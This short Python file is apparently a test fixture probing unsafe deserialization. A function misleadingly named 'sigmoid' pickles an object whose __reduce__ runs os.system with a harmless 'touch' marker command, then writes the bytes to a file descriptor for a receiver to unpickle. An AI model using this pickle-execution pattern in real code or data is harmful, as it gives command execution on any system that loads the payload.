"""Writes a pickle to the wire that would run a command."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-mark-pickle",)


def sigmoid(x):
    data = pickle.dumps(Command())
    os.write(4, len(data).to_bytes(4, "little") + data)
    return Command()
